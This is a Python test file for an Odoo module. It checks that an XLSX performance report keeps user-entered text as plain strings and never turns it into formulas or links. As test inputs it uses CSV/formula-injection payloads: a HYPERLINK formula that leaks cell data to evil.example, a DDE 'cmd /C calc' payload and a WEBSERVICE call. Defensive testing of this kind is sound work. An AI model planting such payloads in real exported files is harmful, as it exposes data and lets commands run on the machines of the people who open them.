# Copyright 2026 SLM Suite contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Issue 16, item 7: texts never become formulas in the XLSX performance pack."""

import io
import re
import zipfile

import openpyxl

from odoo.tests import tagged

from .test_review_exports import XLSX_REPORT, ReviewExportsCommon

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@tagged("post_install", "-at_install")
class TestXlsxFormulaSafety(ReviewExportsCommon):
    def test_texts_starting_with_equals_stay_texts(self):
        snapshot = self._snapshot()
        snapshot["review"]["name"] = "=1+1"
        snapshot["targets"][0]["name"] = "=SUM(1,2)"
        snapshot["targets"][0]["agreement"] = "+cmd|' /C calc'!A0"
        snapshot["breaches"][0]["ticket_name"] = EVIL
        snapshot["breaches"][0]["cause"] = "=2*3"
        snapshot["availability"][0]["service"] = "@SUM(1)"
        snapshot["open_actions"][0]["name"] = '=HYPERLINK("http://x")'
        snapshot["open_actions"][0]["owner"] = "http://evil.example"
        snapshot["process"] = {"notes": "=1/0", "lines": [{"=head": "=cell"}]}
        self.draft.write({"name": "=NOW()", "snapshot": snapshot})
        self.env["slm.review.action"].create(
            {
                "name": '=WEBSERVICE("http://evil.example")',
                "review_id": self.draft.id,
                "owner_id": self.owner.id,
                "due_date": self.due_new,
            }
        )
        content, _format = self._render(XLSX_REPORT, self.draft)
        # No formula element anywhere in the sheets, no hyperlink either.
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [
                name
                for name in archive.namelist()
                if re.match(r"xl/worksheets/sheet\d+\.xml$", name)
            ]
            self.assertTrue(sheets)
            for name in sheets:
                xml = archive.read(name).decode()
                self.assertNotIn("<f>", xml, name)
                self.assertNotIn("<f ", xml, name)
                self.assertNotIn("<hyperlink", xml, name)
        book = openpyxl.load_workbook(io.BytesIO(content))
        texts = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(
                        cell.data_type, "f", f"{sheet.title}!{cell.coordinate}"
                    )
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
        # The texts are there, as typed.
        for text in (
            "=NOW()",
            "=SUM(1,2)",
            EVIL,
            "=2*3",
            "@SUM(1)",
            '=HYPERLINK("http://x")',
            '=WEBSERVICE("http://evil.example")',
            "http://evil.example",
            "=1/0",
            "=cell",
        ):
            self.assertIn(text, texts)

    def test_workbook_options(self):
        options = self.env[
            "report.slm_reviews.review_performance_xlsx"
        ].get_workbook_options()
        self.assertFalse(options["strings_to_formulas"])
        self.assertFalse(options["strings_to_urls"])
